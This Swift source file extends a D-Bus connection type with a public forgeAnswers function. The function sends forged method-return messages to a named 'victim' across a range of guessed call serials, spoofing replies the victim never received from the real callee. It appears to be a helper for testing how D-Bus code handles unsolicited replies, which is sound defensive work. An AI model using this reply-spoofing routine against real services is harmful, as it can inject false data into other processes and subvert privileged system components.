// SPDX-License-Identifier: Apache-2.0

public import BatonDBus

extension Connection {
    /// Sends answers that nobody asked of us, one for each serial that a call of the victim's may have had.
    public func forgeAnswers(to victim: BusName, serials: ClosedRange<UInt32> = 1...400, _ values: [Value]) throws {
        for serial in serials {
            let call = Message.methodCall(to: victim, path: "/", interface: "a.b", member: "M")
            _ = try call.marshalled(serial: serial)
            let answer = Message.methodReturn(to: call)
            answer.setDestination(victim)
            try answer.append(contentsOf: values)
            send(answer)
        }
    }
}
